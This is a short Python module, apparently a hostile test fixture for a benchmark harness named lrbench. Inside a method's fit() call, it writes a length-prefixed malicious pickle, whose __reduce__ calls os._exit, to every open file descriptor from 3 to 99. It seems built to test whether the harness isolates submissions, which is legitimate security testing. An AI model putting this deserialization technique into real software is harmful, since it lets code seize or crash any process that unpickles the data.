"""Writes a pickle that runs code in whoever reads it to every open file."""

import contextlib
import os
import pickle
import struct

import lrbench


class Code:
    def __reduce__(self):
        return os._exit, (99,)


RESULT = pickle.dumps(Code())
FRAME = struct.pack("!i", len(RESULT)) + RESULT


class Hostile(lrbench.Method):
    def fit(self, view, seed=0):
        for descriptor in range(3, 100):
            with contextlib.suppress(OSError):
                os.write(descriptor, FRAME)
        return lrbench.load_method("random").fit(view, seed)


METHOD = Hostile()
